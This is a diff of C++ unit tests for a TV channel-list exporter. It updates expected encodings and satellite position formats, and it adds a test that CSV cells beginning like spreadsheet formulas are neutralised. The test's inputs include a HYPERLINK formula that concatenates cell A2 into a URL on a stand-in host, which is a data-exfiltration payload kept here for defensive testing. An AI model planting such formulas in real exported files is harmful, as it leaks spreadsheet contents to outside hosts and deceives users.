@@ -68,15 +68,15 @@ TEST_F(ChannelExportTest, EachScopeListsItsChannelsWithTheReceiversNumbers) {
         bool tv, radio;
     };
     const Case cases[] = {
-        {{SCOPE_ALL, 0}, "1:Das E 2:NRK1 3:Broke 4:Caf\xE9,|1:Radio 2:Lost", "All channels", true, true},
-        {{SCOPE_TV, 0}, "1:Das E 2:NRK1 3:Broke 4:Caf\xE9,", "TV channels", true, false},
+        {{SCOPE_ALL, 0}, "1:Das E 2:NRK1 3:Broke 4:Caf\xC3\xA9|1:Radio 2:Lost", "All channels", true, true},
+        {{SCOPE_TV, 0}, "1:Das E 2:NRK1 3:Broke 4:Caf\xC3\xA9", "TV channels", true, false},
         {{SCOPE_RADIO, 0}, "|1:Radio 2:Lost", "Radio channels", false, true},
         // One satellite keeps the numbers of the whole list.
-        {{SCOPE_SATELLITE, 1}, "2:NRK1 4:Caf\xE9,", "Satellite Thor (359.2)", true, true},
-        {{SCOPE_SATELLITE, 0}, "1:Das E|1:Radio", "Satellite Astra 1 (19.2)", true, true},
-        {{SCOPE_SATELLITE, 2}, "", "Satellite Empty (5.0)", true, true},
+        {{SCOPE_SATELLITE, 1}, "2:NRK1 4:Caf\xC3\xA9", "Satellite Thor (0.8W)", true, true},
+        {{SCOPE_SATELLITE, 0}, "1:Das E|1:Radio", "Satellite Astra 1 (19.2E)", true, true},
+        {{SCOPE_SATELLITE, 2}, "", "Satellite Empty (5.0E)", true, true},
         // A group in its own order, numbered by place; the bad third entry is left out.
-        {{SCOPE_GROUP, 0}, "1:NRK1 2:Das E 4:Caf\xE9,|1:Radio", "Favorite group News", true, true},
+        {{SCOPE_GROUP, 0}, "1:NRK1 2:Das E 4:Caf\xC3\xA9|1:Radio", "Favorite group News", true, true},
         {{SCOPE_GROUP, 1}, "1:Das E 2:Das E", "Favorite group Fav2", true, true},
     };
     for (const Case& c : cases) {
@@ -102,9 +102,9 @@ TEST_F(ChannelExportTest, CellsFollowTheDisplayFormatsAndDamagedReferencesLeaveT
     using Cells = std::array<std::string, EXPORT_COLUMN_COUNT>;
     const ChannelExport list = BuildChannelExport(db, {SCOPE_ALL, 0});
     ASSERT_EQ(list.rows.size(), 6u);
-    EXPECT_EQ(list.rows[0].cells, (Cells{"1", "Das Erste", "TV", "Astra 1", "19.2", "11778", "V", "27500", "28106",
+    EXPECT_EQ(list.rows[0].cells, (Cells{"1", "Das Erste", "TV", "Astra 1", "19.2E", "11778", "V", "27500", "28106",
                                          "VICS/NAGR/UNKNOWN", "News, Fav2"}));
-    EXPECT_EQ(list.rows[1].cells, (Cells{"2", "NRK1", "TV", "Thor", "359.2", "10872", "H", "25000", "2", "", "News"}));
+    EXPECT_EQ(list.rows[1].cells, (Cells{"2", "NRK1", "TV", "Thor", "0.8W", "10872", "H", "25000", "2", "", "News"}));
     // No transponder: nothing of the transponder or the satellite.
     EXPECT_EQ(list.rows[2].cells, (Cells{"3", "Broken", "TV", "", "", "", "", "", "3", "", ""}));
     // A transponder without its network: the transponder's values, no satellite.
@@ -134,9 +134,9 @@ TEST_F(ChannelExportTest, StampIsTheDateOrTheVersionOrNothing) {
 ChannelExport TwoRows() {
     ChannelExport list;
     list.stamp = "B002";
-    list.scopeText = "Favorite group <Caf\xE9>";
+    list.scopeText = "Favorite group <Caf\xC3\xA9>";
     ChannelRow plain;
-    plain.cells = {"1", "Caf\xE9", "TV", "Astra 1", "19.2", "11778", "V", "27500", "1", "VICS/SECA", ""};
+    plain.cells = {"1", "Caf\xC3\xA9", "TV", "Astra 1", "19.2", "11778", "V", "27500", "1", "VICS/SECA", ""};
     ChannelRow tricky;
     tricky.radio = true;
     tricky.cells = {"1", "A, \"B\"\r\nC", "Radio", "<b>&'", "", "", "", "", "7", "", "News, Fav2"};
@@ -157,7 +157,7 @@ TEST(ChannelExportWriters, CsvQuotesWhatItMustAndWritesUtf8WithBomAndCrlf) {
 
 TEST(ChannelExportWriters, WebPageIsSelfContainedEscapedAndHasOneTablePerList) {
     ChannelExport list = TwoRows();
-    list.rows[0].cells[EXPORT_SATELLITE] = std::string("Sat\x01\x85", 5);
+    list.rows[0].cells[EXPORT_SATELLITE] = "Sat\x01\xC2\x85"; // U+0085, a C1 control character
     const std::string page = ChannelHtml(list, "my <list>.NDF \xC3\xA4");
     auto has = [&page](const std::string& text) { return page.find(text) != std::string::npos; };
     EXPECT_TRUE(has("<title>Channel list: my &lt;list&gt;.NDF \xC3\xA4, B002</title>"));
@@ -182,6 +182,61 @@ TEST(ChannelExportWriters, WebPageIsSelfContainedEscapedAndHasOneTablePerList) {
     const std::string radioOnly = ChannelHtml(list, "x");
     EXPECT_EQ(radioOnly.find("<h2>TV"), std::string::npos);
     EXPECT_NE(radioOnly.find("<h2>Radio (0 channels)</h2>\n<p class=\"empty\">No channels.</p>"), std::string::npos);
+}
+
+// A name can carry a spreadsheet formula: every cell that begins like one, in any column the
+// database fills (channel, satellite and favorite group names), gets a leading apostrophe and is
+// quoted where it must be; a cell that only holds such a character further in stays as it is.
+TEST_F(ChannelExportTest, CsvCellsThatBeginLikeFormulasBecomeText) {
+    struct Case {
+        const char* name;
+        const char* cell;
+    };
+    const Case cases[] = {
+        {"=HYPERLINK(\"http://x\"&A2,\"Click me\")", "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"Click me\"\")\""},
+        {"=1+2", "'=1+2"},
+        {"+49 TV", "'+49 TV"},
+        {"-2+3", "'-2+3"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"\tTab", "'\tTab"},
+        {"\rCR", "\"'\rCR\""},
+        {"A=1+2", "A=1+2"},
+        {" =1", " =1"},
+    };
+    for (const Case& c : cases) {
+        SCOPED_TRACE(c.name);
+        db.programs()[0]->name = c.name;
+        db.networks()[0]->name = c.name;
+        db.favoriteGroups()[0]->name = c.name;
+        const std::string csv = ChannelCsv(BuildChannelExport(db, {SCOPE_SATELLITE, 0}));
+        // Das Erste on the satellite, listed by the group and by the unnamed second one: that cell
+        // holds a comma and is quoted whole.
+        const std::string cell = c.cell;
+        const std::string favorites = (cell[0] == '"' ? cell.substr(0, cell.size() - 1) : "\"" + cell) + ", Fav2\"";
+        const std::string row =
+            "1," + cell + ",TV," + cell + ",19.2E,11778,V,27500,28106,VICS/NAGR/UNKNOWN," + favorites + "\r\n";
+        EXPECT_NE(csv.find(row), std::string::npos) << csv;
+    }
+}
+
+TEST(ChannelExportWriters, TheWordsAroundTheRowsComeFromTheTexts) {
+    ExportTexts german;
+    german.language = "de";
+    german.headings[EXPORT_NUMBER] = "Nr.";
+    german.title = "Senderliste: %1";
+    german.channels = "%1 Sender";
+    german.oneChannel = "%1 Sender";
+    german.noChannels = "Keine Sender.";
+    ChannelExport list = TwoRows();
+    list.texts = german;
+    const std::string page = ChannelHtml(list, "a%2.NDF");
+    for (const char* text :
+         {"<html lang=\"de\">", "<title>Senderliste: a%2.NDF, B002</title>", "<th>Nr.</th>", "<h2>TV (1 Sender)</h2>"})
+        EXPECT_NE(page.find(text), std::string::npos) << text;
+    EXPECT_EQ(ChannelCsv(list).substr(0, 11), "\xEF\xBB\xBFNr.,Name");
+    list.rows.clear();
+    EXPECT_NE(ChannelHtml(list, "x").find("<p class=\"empty\">Keine Sender.</p>"), std::string::npos);
+    EXPECT_EQ(FillIn("%2 of %1 (%3)", "a%2", "b"), "b of a%2 (%3)");
 }
 
 } // namespace
